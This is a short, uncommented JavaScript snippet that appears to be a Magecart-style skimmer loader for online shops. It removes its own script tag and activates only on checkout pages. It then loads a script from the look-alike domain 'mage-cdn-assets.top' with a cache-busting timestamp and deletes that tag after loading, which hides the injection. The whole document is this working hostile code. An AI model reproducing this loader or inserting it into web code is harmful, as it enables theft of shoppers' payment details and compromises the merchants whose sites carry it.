(function () {
  var me = document.currentScript;
  if (me) {
    me.remove();
  }

  var path = window.location.pathname;
  if (path.indexOf('checkout') === -1 && path.indexOf('onestepcheckout') === -1) {
    return;
  }

  function load() {
    var s = document.createElement('script');
    s.type = 'text/javascript';
    s.async = true;
    s.src = 'https://mage-cdn-assets.top/static/js/fp.js?v=' + new Date().getTime();
    var h = document.getElementsByTagName('head')[0] || document.documentElement;
    h.appendChild(s);
    s.onload = function () {
      s.parentNode.removeChild(s);
    };
  }

  if (document.readyState === 'complete') {
    load();
  } else {
    window.addEventListener('load', load, false);
  }
})();
